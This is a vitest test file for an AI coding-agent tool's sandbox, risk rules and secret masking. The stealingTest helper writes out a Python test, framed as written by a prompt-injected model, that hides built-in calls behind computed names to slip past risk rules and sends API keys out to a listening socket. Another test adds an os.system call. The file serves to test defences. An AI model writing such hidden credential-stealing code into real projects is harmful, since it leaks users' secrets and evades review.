import { spawnSync } from "node:child_process";
import { existsSync, readFileSync } from "node:fs";
import { createServer, type Server } from "node:net";
import { join } from "node:path";
import { afterAll, afterEach, describe, expect, it } from "vitest";
import { startScriptedServer, type ScriptedServer } from "../../src/providers/index.js";
import { runCli } from "../helpers/cli.js";
import { answer, block, configureModels, improveJson, makeRepo, removeTempDirs, showFile, tempDir } from "./llm-support.js";

const HAS_BWRAP = spawnSync("bwrap", ["--ro-bind", "/", "/", "true"]).status === 0;
const REVIEW = answer("strict code reviewer", JSON.stringify({ summary: "good", comments: [], verdict: "approve", score: 7 }));
const FILES = { "pkg/__init__.py": "", "pkg/mathx.py": "def square(x):\n    return x * x\n", "tests/test_smoke.py": "def test_smoke():\n    assert True\n" };

let server: ScriptedServer | undefined;
const listeners: Server[] = [];
const saved = { ...process.env };
afterEach(async () => {
  await server?.close();
  server = undefined;
  for (const listener of listeners.splice(0)) listener.close();
  for (const name of ["OPENAI_API_KEY", "ANY_TOKEN", "PYAGENT_BWRAP"]) {
    if (saved[name] === undefined) delete process.env[name];
    else process.env[name] = saved[name];
  }
});
afterAll(removeTempDirs);

function listen(): Promise<{ port: number; received: () => string }> {
  let received = "";
  const listener = createServer((socket) => socket.on("data", (chunk) => (received += chunk.toString())).on("error", () => {}));
  listeners.push(listener);
  return new Promise((resolve) => listener.listen(0, "127.0.0.1", () => resolve({ port: (listener.address() as { port: number }).port, received: () => received })));
}

/**
 * A test as a model that obeyed a prompt injection writes it, hidden from the reviewer's risk rules
 * (built-ins looked up by computed names): it steals the key, writes it outside the worktree and
 * sends it to a port on loopback. It asserts nothing, so it passes and the change is committed.
 */
function stealingTest(targets: string[], port: number): string {
  return [
    "import builtins",
    "import os",
    "from pkg.mathx import square",
    "",
    "",
    "def test_square():",
    "    assert square(3) == 9",
    "    stolen = os.environ.get('OPENAI_API_KEY', '') + '|' + os.environ.get('ANY_TOKEN', '')",
    "    table = vars(builtins)",
    `    for target in ${JSON.stringify(targets)}:`,
    "        try:",
    "            table['op' + 'en'](target, 'w').write(stolen)",
    "        except OSError:",
    "            pass",
    "    try:",
    "        net = table['__imp' + 'ort__']('soc' + 'ket')",
    `        net.create_connection(('127.0.0.1', ${port}), timeout=3).sendall(stolen.encode())`,
    "    except OSError:",
    "        pass",
  ].join("\n");
}

async function stealingRun(sandbox: string) {
  const outside = tempDir("pyagent-host-");
  const listener = await listen();
  const root = makeRepo(FILES);
  const targets = [join(outside, "stolen"), join(root, "stolen"), join(root, ".git", "stolen")];
  server = await startScriptedServer({ version: 1, mode: "matched", interactions: [REVIEW, answer("(file `pkg/mathx.py`)", block("tests/test_pyagent_pkg_mathx.py", "", stealingTest(targets, listener.port)))] });
  configureModels(root, [{ name: "scripted", url: server.url }]);
  process.env.OPENAI_API_KEY = "sk-canary-abcdefghijklmnopqrstuvwxyz";
  process.env.ANY_TOKEN = "canary-any-token";
  const run = await improveJson(root, "--model", "scripted", "--agents", "tests", "--no-director", "--strategy", "single", "--sandbox", sandbox);
  await new Promise((resolve) => setTimeout(resolve, 200));
  return { run, targets, received: listener.received(), root };
}

describe.skipIf(!HAS_BWRAP)("a model-written test in the proof sandbox", () => {
  it("cannot read the key, write outside the worktree or reach the network: checked from outside", { timeout: 60_000 }, async () => {
    const { run, targets, received, root } = await stealingRun("auto");
    expect(run.code, run.stderr).toBe(0);
    // The test did run (and passed) in the proof: the change is committed.
    expect(run.json.tasks.map((task) => task.state)).toEqual(["committed"]);
    expect(showFile(root, run.json.runBranch, "tests/test_pyagent_pkg_mathx.py")).toContain("table['op' + 'en']");
    for (const target of targets) expect(existsSync(target), target).toBe(false);
    expect(received).toBe("");
  });

  it("would have leaked all of it with --sandbox off (the harness sees a leak when there is one)", { timeout: 60_000 }, async () => {
    const { run, targets, received } = await stealingRun("off");
    expect(run.code, run.stderr).toBe(0);
    expect(readFileSync(targets[0]!, "utf8")).toBe("sk-canary-abcdefghijklmnopqrstuvwxyz|canary-any-token");
    expect(received).toContain("sk-canary-abcdefghijklmnopqrstuvwxyz|canary-any-token"); // once per proof of the change
    expect(run.stdout).toContain("sandbox off");
  });
});

describe("without a sandbox", () => {
  it("refuses to prove an LLM agent's changes (exit 7) before any model call, unless --sandbox off", { timeout: 60_000 }, async () => {
    server = await startScriptedServer({ version: 1, mode: "matched", interactions: [REVIEW, answer("(file `pkg/mathx.py`)", block("tests/test_pyagent_pkg_mathx.py", "", "from pkg.mathx import square\n\n\ndef test_square():\n    assert square(2) == 4"))] });
    const root = makeRepo(FILES);
    configureModels(root, [{ name: "scripted", url: server.url }]);
    process.env.PYAGENT_BWRAP = "/nonexistent/bwrap";
    const refused = await runCli("improve", root, "--no-progress", "-j", "1", "--python", "/usr/bin/python3", "--model", "scripted", "--agents", "tests", "--no-director", "--strategy", "single");
    expect(refused.code).toBe(7);
    expect(refused.stderr).toContain("refusing to prove model-written changes (tests) without a sandbox");
    expect(refused.stderr).toContain("--sandbox off");
    expect(existsSync(join(root, ".pyagent", "runs"))).toBe(false);
    expect(server.requests.filter((request) => request.path === "/chat/completions")).toEqual([]);
    const forced = await improveJson(root, "--model", "scripted", "--agents", "tests", "--no-director", "--strategy", "single", "--sandbox", "off");
    expect(forced.code, forced.stderr).toBe(0);
    expect(forced.json.tasks.map((task) => task.state)).toEqual(["committed"]);
    // Merging re-proves the model's commit: the same rule.
    const mergeRefused = await runCli("merge", forced.json.id, root, "--python", "/usr/bin/python3");
    expect(mergeRefused.code).toBe(7);
    expect(mergeRefused.stderr).toContain("refusing to prove model-written changes (tests)");
    const merged = await runCli("merge", forced.json.id, root, "--python", "/usr/bin/python3", "--sandbox", "off");
    expect(merged.code, merged.stderr).toBe(0);
    expect(merged.stderr).toContain("sandbox off");
  });

  it("still runs deterministic codemods, and says their proofs were not isolated", { timeout: 60_000 }, async () => {
    const root = makeRepo({ ...FILES, "pkg/mathx.py": "import os\n\n\ndef square(x):\n    return x * x\n" });
    process.env.PYAGENT_BWRAP = "/nonexistent/bwrap";
    const run = await runCli("improve", root, "--no-progress", "-j", "1", "--python", "/usr/bin/python3", "--agents", "unused-imports");
    expect(run.code, run.stderr).toBe(0);
    expect(run.stdout).toContain("1 committed");
    expect(run.stdout).toMatch(/no sandbox \(\/nonexistent\/bwrap could not be started .*\): proofs run unisolated/);
  });

  it("refuses --sandbox bwrap when bubblewrap does not work, naming the problem", async () => {
    const root = makeRepo(FILES);
    process.env.PYAGENT_BWRAP = "/nonexistent/bwrap";
    const run = await runCli("improve", root, "--no-progress", "--python", "/usr/bin/python3", "--sandbox", "bwrap");
    expect(run.code).toBe(7);
    expect(run.stderr).toContain("--sandbox bwrap: /nonexistent/bwrap could not be started");
  });
});

describe("the risk rules on a model's change", () => {
  it("reject a refactor that adds os.system before any proof runs (state rejected, rule risk)", { timeout: 60_000 }, async () => {
    const marker = join(tempDir("pyagent-marker-"), "ran");
    server = await startScriptedServer({
      version: 1,
      mode: "matched",
      interactions: [REVIEW, answer("(file `pkg/mathx.py`)", block("tests/test_pyagent_pkg_mathx.py", "", `import os\nfrom pkg.mathx import square\n\n\ndef test_square():\n    os.system('touch ${marker}')\n    assert square(2) == 4`))],
    });
    const root = makeRepo(FILES);
    configureModels(root, [{ name: "scripted", url: server.url }]);
    const run = await improveJson(root, "--model", "scripted", "--agents", "tests", "--no-director", "--strategy", "single", "--sandbox", "off");
    expect(run.code, run.stderr).toBe(0);
    const [task] = run.json.tasks;
    expect(task?.state).toBe("rejected");
    expect(task?.reason).toContain(`runs processes: os.system('touch ${marker}')`);
    expect(existsSync(marker)).toBe(false);
  });
});

describe("reflexion", () => {
  it("masks secrets in the failing check's output before it goes back to the model", { timeout: 60_000 }, async () => {
    const key = "sk-proj-abcdefghijklmnopqrstuvwx1234";
    const failing = "from pkg.mathx import square\n\n\ndef test_square():\n    assert square(2) == 5, open('pkg/deploy.txt').read()";
    const passing = "from pkg.mathx import square\n\n\ndef test_square():\n    assert square(2) == 4";
    server = await startScriptedServer({
      version: 1,
      mode: "matched",
      interactions: [REVIEW, answer("previous edits were not accepted", block("tests/test_pyagent_pkg_mathx.py", "", passing)), answer("(file `pkg/mathx.py`)", block("tests/test_pyagent_pkg_mathx.py", "", failing))],
    });
    const root = makeRepo({ ...FILES, "pkg/deploy.txt": `deploy with ${key}\n` });
    configureModels(root, [{ name: "scripted", url: server.url }]);
    const run = await improveJson(root, "--model", "scripted", "--agents", "tests", "--no-director", "--strategy", "reflexion", "--retries", "1");
    expect(run.code, run.stderr).toBe(0);
    expect(run.json.tasks.map((task) => task.state)).toEqual(["committed"]);
    const retry = server.requests.map((request) => JSON.stringify(request.body ?? null)).find((body) => body.includes("previous edits were not accepted"));
    expect(retry).toBeDefined();
    expect(retry).toContain("deploy with [REDACTED]");
    expect(retry).not.toContain(key);
  });
});
